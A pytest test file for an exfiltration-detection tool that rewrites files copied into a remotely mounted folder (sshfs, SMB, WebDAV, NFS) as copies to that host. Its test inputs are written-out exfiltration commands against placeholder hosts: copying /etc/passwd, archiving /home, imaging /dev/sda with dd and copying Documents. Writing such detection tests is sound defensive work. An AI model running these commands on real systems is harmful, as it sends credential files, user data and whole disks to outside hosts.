"""What is copied into a folder of another host that the same script mounted goes to that host."""

import pytest

from exfilwatch.commands.command import Undoing
from exfilwatch.commands.mounts import mounted
from exfilwatch.commands.shells import posix


@pytest.mark.parametrize(
    ("script", "last"),
    [
        ("sshfs u@h.example:/in /mnt/x; cp /etc/passwd /mnt/x/p", ["cp", "/etc/passwd", "sftp://u@h.example/in/p"]),
        ("sshfs u@h.example:/ /mnt/x/\ncp a /mnt/x/", ["cp", "a", "sftp://u@h.example/"]),
        ("mount -t cifs -o guest //h.example/s /mnt/x && mv a /mnt/x", ["mv", "a", "smb://h.example/s"]),
        (
            "mount.davfs https://h.example/dav /mnt/d; tar cf /mnt/d/x.tar /home",
            ["tar", "cf", "https://h.example/dav/x.tar", "/home"],
        ),
        ("mount -t nfs nas:/export /mnt; dd if=/dev/sda of=/mnt/i", ["dd", "if=/dev/sda", "of=nfs://nas/export/i"]),
        (
            "mount_smbfs //u:p@h.example/s ~/v; cp -R Documents ~/v/",
            ["cp", "-R", "Documents", "smb://u:p@h.example/s/"],
        ),
        ("mount /dev/sdb1 /mnt; cp a /mnt", ["cp", "a", "/mnt"]),
        ("cp a /mnt/x; sshfs u@h:/ /mnt/x; cp b /mnt/xy", ["cp", "b", "/mnt/xy"]),
        ("sshfs u@h:/ .; cp a ./b", ["cp", "a", "./b"]),
    ],
)
def test_puts_the_other_host_in_the_place_of_its_folder(script: str, last: list[str]) -> None:
    assert list(mounted(posix.commands(script, Undoing())))[-1].words == last


def test_says_where_output_goes() -> None:
    commands = posix.commands("sshfs u@h:/in /mnt/x; tar c /home > /mnt/x/t", Undoing())
    assert list(mounted(commands))[-1].writes == ["sftp://u@h/in/t"]
